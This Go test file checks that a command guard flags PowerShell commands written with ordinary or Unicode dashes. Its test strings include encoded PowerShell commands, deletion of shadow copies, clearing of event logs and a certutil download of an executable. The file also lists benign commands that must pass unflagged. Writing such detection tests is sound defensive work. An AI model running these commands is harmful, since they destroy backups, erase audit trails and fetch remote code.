package toolguard

import (
	"strings"
	"testing"
)

// F21 (K4): PowerShell takes four dashes for one, whoever starts it.
func TestF21DashesK4(t *testing.T) {
	g := testGuard()
	for _, dash := range []string{"-", "\u2013", "\u2014", "\u2015"} {
		for rule, texts := range map[string][]string{
			"encoded-command": {"powershell ~EncodedCommand ZABpAHIA", "powershell.exe ~NoProfile ~e ZABpAHIA", "pwsh ~ec ZABpAHIA", `powershell "~enc" ZABpAHIA`, "pwsh-preview ~enc ZABpAHIA"},
			"shadow-copies":   {"powershell ~Command vssadmin delete shadows /all", "powershell ~ExecutionPolicy Bypass ~c vssadmin delete shadows /all"},
			"event-log":       {"powershell ~c Clear-EventLog ~LogName System"},
			"download-run":    {"certutil.exe ~urlcache ~f https://example.org/a.exe a.exe"},
		} {
			for _, text := range texts {
				for _, around := range []string{"@", "cmd /c @", "cmd.exe /c \"@\""} {
					text := strings.ReplaceAll(around, "@", strings.ReplaceAll(text, "~", dash))
					for d := range Cmd + 1 {
						if hit, _ := g.Script(d, text); hit.ID() != rule {
							t.Errorf("%d %q: refused by %q, want %q", d, text, hit.ID(), rule)
						}
					}
				}
			}
		}
		for _, text := range []string{"powershell ~ExecutionPolicy RemoteSigned ~File build.ps1", "powershell ~c Get-Content a.txt ~Encoding utf8", "echo ~EncodedCommand x", "git commit ~m 'powershell ~enc'", "pwsh ~v"} {
			for d := range Cmd + 1 {
				if hit, ok := g.Script(d, strings.ReplaceAll(text, "~", dash)); ok {
					t.Errorf("%d %q: refused by %q", d, strings.ReplaceAll(text, "~", dash), hit.ID())
				}
			}
		}
	}
	for _, text := range []string{"sudo pwsh –enc ZABpAHIA", "env A=b powershell.exe —EncodedCommand ZABpAHIA", "bash -c 'pwsh ―e ZABpAHIA'", "timeout 5 pwsh –NoProfile –enc ZABpAHIA"} {
		if hit, _ := g.Script(POSIX, text); hit.ID() != "encoded-command" {
			t.Errorf("%q: refused by %q", text, hit.ID())
		}
	}
}
